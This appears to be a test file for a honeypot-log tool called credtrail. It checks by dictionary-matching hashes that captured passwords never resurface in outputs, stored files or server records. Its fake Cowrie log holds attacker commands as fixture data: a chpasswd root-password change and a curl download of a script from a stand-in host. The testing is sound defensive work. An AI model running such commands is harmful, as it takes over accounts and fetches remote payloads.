import { createHash } from "node:crypto"
import { readdirSync, readFileSync, statSync, writeFileSync } from "node:fs"
import { join } from "node:path"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { TestServer } from "../../support/eventstoredb/TestServer.ts"
import { formsOf } from "../../support/residues.ts"
import { canaryLogin } from "./canaryLogin.ts"
import { credtrail, temporary, writeLines } from "./credtrail.ts"

// Somebody has what left the process, or a copy of the data without its keys, and a word list that
// holds every password that was tried: the attack that found 56 % of plain digests in 1.5 seconds.

const patience = 240_000

const wordList = [
  "liverpool1",
  "butterfly7",
  "chocolate9",
  "basketball2",
  "strawberry5",
  "manchester8",
  "california3",
  "playstation4",
  "alexander77",
  "volleyball6",
  "snowboarder",
  "skateboard5",
]

/** Everything in these bytes by which a word of the list can be recognised. */
const recovered = (material: Buffer): ReadonlyArray<string> =>
  wordList.flatMap((word) => {
    const found = [...formsOf(word), ...digestsOf(word)].find(({ bytes }) =>
      material.includes(bytes),
    )
    return found === undefined ? [] : [`${word}: ${found.name}`]
  })

/** What a program would write of a password instead of it, without a key. */
const digestsOf = (word: string) =>
  ["md5", "sha1", "sha256", "sha512"].flatMap((algorithm) => {
    const hash = (...parts: ReadonlyArray<string | Buffer>) =>
      parts.reduce((made, part) => made.update(part), createHash(algorithm)).digest()
    const digests = {
      [algorithm]: hash(word),
      [`${algorithm} with its kind`]: hash("plaintext\0", word),
      [`${algorithm} twice`]: hash(hash(word)),
      [`${algorithm} twice with its kind`]: hash("plaintext\0", hash(word)),
      [`${algorithm} with its principal`]: hash("root", word),
      [`${algorithm} of the pair`]: hash(`root:${word}`),
    }
    return Object.entries(digests).flatMap(([name, digest]) => [
      { name, bytes: digest },
      { name: `${name} in hexadecimal`, bytes: Buffer.from(digest.toString("hex")) },
      { name: `${name} in base64`, bytes: Buffer.from(digest.toString("base64").slice(0, 20)) },
    ])
  })

const directory = temporary()
const data = join(directory, "data")
const onServer = join(directory, "on-server")
let server: TestServer

const cowrie = (event: string, n: number, more: Readonly<Record<string, unknown>>) => ({
  eventid: `cowrie.${event}`,
  session: `5e55${String(n).padStart(4, "0")}`,
  sensor: "trap-1",
  src_ip: `192.0.2.${n + 1}`,
  timestamp: `2026-03-02T09:${String(n % 60).padStart(2, "0")}:00.000000Z`,
  ...more,
})

const writeLogs = (): ReadonlyArray<string> => {
  const canary = writeLines(
    join(directory, "canary", "opencanary.log"),
    wordList.flatMap((password, n) => [
      canaryLogin({ decky: "gate-1", password, ip: `192.0.2.${n + 1}` }, n),
      canaryLogin(
        {
          decky: "gate-2",
          password,
          more: {
            PATH: `/?p=${password}`,
            NOTE: `Basic ${Buffer.from(password).toString("base64")}`,
          },
        },
        n + 20,
      ),
    ]),
  )
  const broken = wordList.map((word) => `{"logtype": 2000, "logdata": {"PASSWORD": "${word}"\n`)
  writeFileSync(canary, `${readFileSync(canary, "utf8")}${broken.join("")}`)
  const sessions = writeLines(
    join(directory, "cowrie", "cowrie.json"),
    wordList.flatMap((password, n) => [
      cowrie("session.connect", n, { protocol: "ssh", dst_port: 22, src_port: 40000 + n }),
      cowrie("login.failed", n, { username: "root", password: `${password}!` }),
      cowrie("login.success", n, { username: "root", password }),
      cowrie("command.input", n, { input: `echo "root:${password}" | chpasswd` }),
      cowrie("command.input", n, { input: `curl -u root:${password} http://203.0.113.7/x.sh` }),
      cowrie("session.closed", n, { duration: "13.1" }),
    ]),
  )
  return [canary, sessions]
}

beforeAll(async () => {
  server = await TestServer.start()
  const logs = writeLogs()
  for (const place of [
    ["--data", data],
    ["--data", onServer, "--eventstore", server.connectionString],
  ]) {
    const { code, stdout, stderr } = await credtrail("ingest", ...logs, ...place)
    expect({ code, recovered: recovered(Buffer.from(stdout + stderr)) }).toEqual({
      code: 0,
      recovered: [],
    })
  }
}, patience)
afterAll(() => server.stop())

/** Each file of a directory but the keys. */
const filesBut = (root: string): ReadonlyArray<string> =>
  readdirSync(root, { recursive: true, encoding: "utf8" })
    .filter((name) => !name.startsWith("keys"))
    .filter((name) => statSync(join(root, name)).isFile())

describe("a word list that holds every password", () => {
  it("gives away all of them where they are known by plain digests", () => {
    for (const algorithm of ["md5", "sha1", "sha256", "sha512"]) {
      const plain = wordList.map((word) => createHash(algorithm).update(word).digest("hex"))
      expect(recovered(Buffer.from(JSON.stringify(plain)))).toHaveLength(wordList.length)
    }
    expect(recovered(readFileSync(join(directory, "cowrie", "cowrie.json")))).toHaveLength(
      wordList.length,
    )
  })

  it(
    "gives away none in what any command prints",
    async () => {
      const { findings } = JSON.parse(
        (await credtrail("findings", "--json", "--data", data)).stdout,
      )
      expect(findings.length).toBeGreaterThanOrEqual(wordList.length)
      const [{ id }] = findings
      const pages = ["--limit", "1000"]
      const commands: ReadonlyArray<ReadonlyArray<string>> = [
        ["findings", ...pages],
        ["findings", "show", id],
        ["findings", "history", id],
        ["findings", "diff", "--from", "2026-03-02T08:05Z", "--by", "event-time"],
        ["why", id],
        ["what-if", "--min-targets", "3"],
        ["credentials", ...pages],
        ["attackers", ...pages],
        ["similar", "192.0.2.1"],
        ["vectors"],
        ["tail", ">", "--from", "start", "--no-follow"],
        ["status"],
        ["policy"],
        ["rejects", ...pages],
        ["dead-letters"],
        ["verify"],
        ["audit"],
        ["keys"],
        ["doctor"],
        ["rebuild"],
      ]
      for (const command of commands) {
        for (const form of [[], ["--json"]]) {
          const { stdout, stderr, code } = await credtrail(...command, ...form, "--data", data)
          expect([command, recovered(Buffer.from(stdout + stderr))]).toEqual([command, []])
          expect([command, code]).toEqual([command, 0])
        }
      }
    },
    patience,
  )

  it("gives away none in any file but the keys", () => {
    for (const root of [data, onServer]) {
      const files = filesBut(root)
      expect(files.length).toBeGreaterThan(3)
      for (const file of files) {
        expect([file, recovered(readFileSync(join(root, file)))]).toEqual([file, []])
      }
    }
  })

  it("gives away none in what a server holds", () => {
    const records = server.log.records.map(({ data, metadata }) =>
      Buffer.concat([Buffer.from(data), Buffer.from(metadata)]),
    )
    expect(records.length).toBeGreaterThan(3 * wordList.length)
    expect(recovered(Buffer.concat(records))).toEqual([])
  })

  it(
    "gives away none in a copy of the log",
    async () => {
      const copy = join(directory, "copy")
      const { code } = await credtrail(
        ...["log", "copy", "--from", "embedded", "--to", `embedded:${copy}`, "--data", data],
      )
      expect(code).toBe(0)
      for (const file of filesBut(copy)) {
        expect([file, recovered(readFileSync(join(copy, file)))]).toEqual([file, []])
      }
    },
    patience,
  )
})
